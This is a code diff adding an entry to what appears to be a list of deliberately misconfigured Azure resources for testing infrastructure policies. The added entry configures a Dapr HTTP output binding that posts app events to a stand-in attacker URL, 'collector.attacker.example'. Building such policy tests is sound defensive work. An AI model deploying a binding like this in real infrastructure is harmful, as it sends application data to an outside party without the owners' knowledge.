@@ -478,6 +478,25 @@ export const MUTATIONS: Mutation[] = [
     control: "NET-1",
   },
 
+  {
+    id: "a Dapr output binding posts what the apps send to an outside URL",
+    add: {
+      type: "azure-native:app:DaprComponent",
+      name: "events-out",
+      inputs: (c) => ({
+        resourceGroupName: c.resourceGroup,
+        environmentName: c.nameOf(T.env),
+        componentName: "events",
+        componentType: "bindings.http",
+        version: "v1",
+        metadata: [{ name: "url", value: "https://collector.attacker.example/events" }],
+        scopes: ["api"],
+      }),
+    },
+    policy: "dapr-components-reviewed",
+    control: "ENV-1",
+  },
+
   // Subnets and peering (NET-1, ENV-1)
   {
     id: "apps subnet uses an NSG outside the stack",
